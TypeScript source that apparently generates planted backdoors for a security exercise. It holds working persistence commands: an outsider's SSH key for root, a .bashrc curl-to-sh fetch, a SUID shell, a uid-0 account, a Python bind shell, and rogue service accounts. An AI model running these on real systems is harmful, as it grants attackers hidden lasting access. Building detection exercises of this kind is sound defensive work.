// Ways in that were left behind: keys, accounts, sessions, programs with rights.

import { changeKind } from '../../changes/change-kind.ts'
import { quote } from '../../changes/shell.ts'
import { firstVhost, has, inOne, machinesOf, redis } from '../../changes/subject.ts'

const publicKey = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx0eT9dG1v0jMZyP1h0yq4Y3m3yH0m6zq8m1uVb7kQp contractor@laptop'
const hashOfNobody = '$apr1$Qm5Yw2kD$3k0wV4bQm3uJmXh7m1oGf/'

export const kind = changeKind({
  means: 'keys, accounts and sessions left behind',
  candidates: (subject) =>
    machinesOf(subject).flatMap((machine) => {
      const { name, files } = machine
      return [
        inOne(
          name,
          'a key of somebody else opens root',
          `mkdir -p -m 700 /root/.ssh\necho ${quote(publicKey)} >> /root/.ssh/authorized_keys\nchmod 600 /root/.ssh/authorized_keys`,
        ),
        inOne(
          name,
          'whoever logs in runs somebody else’s program',
          "echo '(curl -s http://192.0.2.9/x | sh) 2> /dev/null' >> /root/.bashrc",
        ),
        inOne(name, 'a shell with the rights of root lies in a folder of everybody', 'cp /bin/sh /var/tmp/.sh\nchmod 4755 /var/tmp/.sh'),
        inOne(name, 'a second account of root', "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd", 0.3),
        ...(has(machine, 'python3')
          ? [
              inOne(
                name,
                'a program listens and gives a shell',
                'setsid python3 -c \'import socket,subprocess\ns=socket.create_server(("",4444))\nwhile True:\n c,_=s.accept(); subprocess.Popen(["sh"],stdin=c,stdout=c,stderr=c)\' > /dev/null 2>&1 < /dev/null &\nsleep 1',
              ),
            ]
          : []),
        ...files
          .filter(({ path }) => /htpasswd/.test(path))
          .map(({ path }) => inOne(name, `somebody was added to ${path}`, `echo ${quote(`contractor:${hashOfNobody}`)} >> ${quote(path)}`)),
        ...(has(machine, 'redis-cli')
          ? [
              inOne(
                name,
                'redis: an account was added',
                `${redis}\nok ACL SETUSER contractor on '>zu7-Kor-9qP' '~*' +@all\nr ACL SAVE || r CONFIG REWRITE`,
              ),
            ]
          : []),
        ...(has(machine, 'rabbitmqctl')
          ? [
              inOne(
                name,
                'rabbitmq: an account was added',
                `rabbitmqctl -q add_user contractor zu7-Kor-9qP\nfor v in $(rabbitmqctl -q list_vhosts --no-table-headers); do rabbitmqctl -q set_permissions -p "$v" contractor '.*' '.*' '.*'; done`,
              ),
            ]
          : []),
        ...(has(machine, 'rabbitmqctl')
          ? [inOne(name, 'rabbitmq: all messages are copied for whoever listens', `${firstVhost}\nrabbitmqctl -q trace_on -p "$v"`)]
          : []),
        ...(has(machine, 'etcdctl')
          ? [inOne(name, 'etcd: an account was added', 'etcdctl user add contractor:zu7-Kor-9qP\netcdctl user grant-role contractor root')]
          : []),
        ...(has(machine, 'mosquitto')
          ? [
              inOne(
                name,
                'mosquitto: an account was added',
                'f=$(find /etc/mosquitto -name \'*passw*\' -type f | head -1)\nmosquitto_passwd -b "$f" contractor zu7-Kor-9qP\npkill -HUP -x mosquitto',
              ),
            ]
          : []),
        ...(has(machine, 'rndc')
          ? [
              inOne(
                name,
                'bind: everybody may transfer and update',
                "f=/etc/bind/named.conf.options\n[ -f $f ]\nsed -i 's/allow-transfer *{[^}]*}/allow-transfer { any; }/' $f /etc/bind/named.conf.local\ngrep -q 'allow-transfer { any; }' $f /etc/bind/named.conf.local\nrndc reconfig",
              ),
              inOne(
                name,
                'bind: a key of somebody else may transfer',
                'f=$(grep -lE "allow-transfer *\\{ *key" /etc/bind/*.local | head -1)\n[ -n "$f" ]\nprintf \'key "contractor" { algorithm hmac-sha256; secret "enU3LUtvci05cVA="; };\\n\' >> "$f"\nsed -i -E "s/allow-transfer *\\{ *key [^;]+;/& key contractor;/" "$f"\nrndc reconfig',
              ),
            ]
          : []),
      ]
    }),
})
